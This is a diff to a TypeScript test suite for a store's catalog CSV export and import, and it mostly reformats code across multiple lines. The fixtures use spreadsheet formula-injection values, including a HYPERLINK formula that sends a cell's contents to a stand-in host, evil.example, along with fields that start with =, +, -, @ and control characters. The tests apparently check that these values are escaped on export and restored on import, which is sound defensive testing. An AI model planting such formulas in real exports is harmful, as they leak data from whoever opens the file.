@@ -12,7 +12,12 @@ const HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
 const catalog = async (store: CatalogStore) =>
   (await call("GET", store.path("?include_drafts=true&limit=100"), { token: store.token })).body.data
     .map((p: any) => ({
-      slug: p.slug, title: p.title, description: p.description, brand: p.brand, seo_title: p.seo_title, seo_description: p.seo_description,
+      slug: p.slug,
+      title: p.title,
+      description: p.description,
+      brand: p.brand,
+      seo_title: p.seo_title,
+      seo_description: p.seo_description,
       variants: p.variants.map((v: any) => [v.sku, v.title, v.option_values, v.price_cents, v.stock]),
     }))
     .sort((a: any, b: any) => a.slug.localeCompare(b.slug));
@@ -20,7 +25,13 @@ const catalog = async (store: CatalogStore) =>
 async function trickyStore() {
   const store = await catalogStore();
   await makeProduct(store, { title: HYPERLINK, slug: "link", brand: "@cmd", description: "\tindented", seo_title: "+1 offer", seo_description: "\rcarriage" });
-  const tee = await makeProduct(store, { title: "'Tis the season", slug: "tis", product_type: "variable", default_price_cents: undefined, brand: "'=already text" });
+  const tee = await makeProduct(store, {
+    title: "'Tis the season",
+    slug: "tis",
+    product_type: "variable",
+    default_price_cents: undefined,
+    brand: "'=already text",
+  });
   await makeVariant(store, tee.id, { sku: "=1+1", title: "-5% off", price_cents: 500, option_values: [{ name: "@size", value: "-1" }] });
   await makeVariant(store, tee.id, { sku: "''@x", price_cents: 0, option_values: [{ name: "@size", value: "'+2" }] });
   return store;
@@ -57,7 +68,10 @@ describe("the import removes exactly that one ', so export -> import is identica
     const csv = "handle,title,brand,product_type,price\na,'=SUM(1),'Tis,single,1.00\nb,',''@b,single,1.00\n";
     const done = await finished(store, (await importCsv(store, csv)).body.id);
     expect(done).toMatchObject({ state: "done", products_created: 2, errors: [] });
-    expect((await catalog(store)).map((p: any) => [p.slug, p.title, p.brand])).toEqual([["a", "=SUM(1)", "'Tis"], ["b", "'", "'@b"]]);
+    expect((await catalog(store)).map((p: any) => [p.slug, p.title, p.brand])).toEqual([
+      ["a", "=SUM(1)", "'Tis"],
+      ["b", "'", "'@b"],
+    ]);
   });
 });
 
